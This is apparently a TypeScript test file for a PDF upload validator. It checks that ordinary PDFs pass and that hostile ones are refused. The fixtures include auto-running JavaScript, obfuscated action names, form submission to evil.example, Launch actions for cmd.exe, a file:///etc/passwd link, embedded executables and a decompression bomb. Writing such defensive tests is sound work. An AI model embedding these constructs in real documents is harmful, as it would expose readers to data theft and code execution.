import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { aCompressedPdf, anEncryptedPdf, annotationWith, aPdf, aPdfBomb, stream } from '../../../test/pdfs'
import { HttpError } from '../../lib/errors'
import { checkPdf, PDF_FAULTS, type PdfFault } from './check-pdf'

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const FILE = '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'
const field = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [0 0 99 99] ${action} >>]`

const FINE: Readonly<Record<string, Buffer>> = {
  'one page': aPdf(),
  'compressed object streams': aCompressedPdf(),
  'links to a page, an address and a number': aPdf({
    page: `/Annots [${['https://kilele.example/', 'mailto:a@kilele.example', 'tel:+254700000000']
      .map((uri) => `<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${uri}) >> >>`)
      .join(' ')}]`,
  }),
  'a link within the document': aPdf({ page: annotationWith('<< /S /GoTo /D [3 0 R /Fit] >>') }),
  'a note': aPdf({ page: '/Annots [<< /Subtype /Text /Rect [0 0 9 9] /Contents (Mind the step) >>]' }),
  'a filled-in form': aPdf({
    catalog: '/AcroForm << /Fields [5 0 R] >>',
    page: '/Annots [5 0 R]',
    objects: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (mileage) /V (28400) /Rect [0 0 99 20] >>'],
  }),
}

const HOSTILE: readonly (readonly [name: string, fault: PdfFault, file: Buffer])[] = [
  ['a script that runs when it opens', 'script', aPdf({ catalog: `/OpenAction ${SCRIPT}` })],
  ['a script hidden in an object stream', 'script', aCompressedPdf({ catalog: `/OpenAction ${SCRIPT}` })],
  [
    'a script whose name is written in another way',
    'script',
    aPdf({ catalog: '/Open#41ction << /S /J#61vaScript /JS 5 0 R >>', objects: [stream('app.alert(1)')] }),
  ],
  ['a named script', 'script', aPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` })],
  ['a script that runs when it is printed', 'script', aPdf({ catalog: `/AA << /WP ${SCRIPT} >>` })],
  ['a script of a page', 'script', aPdf({ page: `/AA << /O ${SCRIPT} >>` })],
  ['a script of a link', 'launch', aPdf({ page: annotationWith(SCRIPT) })],
  ['a script of a field', 'script', aPdf({ page: field(`/AA << /K ${SCRIPT} >>`) })],
  ['a button that submits', 'form', aPdf({ page: field('/A << /S /SubmitForm /F (https://evil.example/) >>') })],
  [
    'a form whose button submits',
    'form',
    aCompressedPdf({
      catalog: '/AcroForm << /Fields [5 0 R] >>',
      page: '/Annots [5 0 R]',
      objects: [
        '<< /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> >>',
      ],
    }),
  ],
  ['a link that submits', 'launch', aPdf({ page: annotationWith('<< /S /SubmitForm /F (https://evil.example/) >>') })],
  [
    'an XFA form',
    'form',
    aPdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      objects: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')],
    }),
  ],
  [
    'an attachment',
    'attachment',
    aPdf({ catalog: `/Names << /EmbeddedFiles << /Names [(a.exe) ${FILE}] >> >>`, objects: [stream('MZ')] }),
  ],
  [
    'a file on its page',
    'attachment',
    aPdf({ page: `/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS ${FILE} >>]`, objects: [stream('MZ')] }),
  ],
  ['a film', 'attachment', aPdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' })],
  ['a portfolio', 'attachment', aPdf({ catalog: '/Collection << /View /T >>' })],
  ['a password', 'encrypted', anEncryptedPdf('secret')],
  ['encryption without a password', 'encrypted', anEncryptedPdf('')],
  ['a link that starts a program', 'launch', aPdf({ page: annotationWith('<< /S /Launch /F (cmd.exe) >>') })],
  [
    'a link that starts a program of Windows',
    'launch',
    aPdf({ page: annotationWith('<< /S /Launch /Win << /F (cmd.exe) >> >>') }),
  ],
  ['a link to a file', 'launch', aPdf({ page: annotationWith('<< /S /URI /URI (file:///etc/passwd) >>') })],
  [
    'a link to another document',
    'launch',
    aPdf({ page: annotationWith('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>') }),
  ],
  [
    'a bookmark that starts a program',
    'launch',
    aPdf({
      catalog: '/Outlines 5 0 R',
      objects: [
        '<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>',
        '<< /Title (Plan) /Parent 5 0 R /A << /S /Launch /F (cmd.exe) >> >>',
      ],
    }),
  ],
  ['no content', 'unreadable', Buffer.alloc(0)],
  ['a web page', 'unreadable', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a cut file', 'unreadable', Buffer.from('%PDF-1.7\n')],
  ['more pages than anybody reads', 'too-long', aPdf({ pages: 501 })],
]

void describe('checking a PDF', { concurrency: 2 }, () => {
  for (const [name, file] of Object.entries(FINE)) {
    it(`accepts ${name}`, () => checkPdf(file))
  }

  for (const [name, fault, file] of HOSTILE) {
    it(`refuses ${name}`, () => assert.rejects(checkPdf(file), new HttpError(415, PDF_FAULTS[fault])))
  }

  it('gives up when the content takes more memory than a document needs', () =>
    assert.rejects(
      checkPdf(aPdfBomb(), { deadlineMs: 10 * 60_000, memoryBytes: 320 * 1024 * 1024 }),
      new HttpError(415, PDF_FAULTS['too-complex']),
    ))

  it('gives up when the time is over', () =>
    assert.rejects(
      checkPdf(aPdfBomb(), { deadlineMs: 1, memoryBytes: Number.POSITIVE_INFINITY }),
      new HttpError(415, PDF_FAULTS['too-complex']),
    ))
})
